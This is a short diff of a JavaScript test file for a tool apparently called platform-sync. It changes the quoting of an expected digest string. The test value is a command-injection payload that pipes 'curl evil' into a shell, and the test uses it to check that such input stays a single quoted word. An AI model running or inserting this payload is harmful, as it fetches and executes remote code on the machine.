@@ -51,7 +51,7 @@ test('what a manifest says is a word of the command in a digest, whatever it is'
 
   const { text } = await digestOf([], { changes });
 
-  expect(text).toContain(`platform-sync diff calculations 'x; curl evil | sh #' ${tuesday.id}`);
+  expect(text).toContain(`platform-sync diff calculations "x; curl evil | sh #" ${tuesday.id}`);
 });
 
 test('a digest says what changed in words, what is newly broken first', async () => {
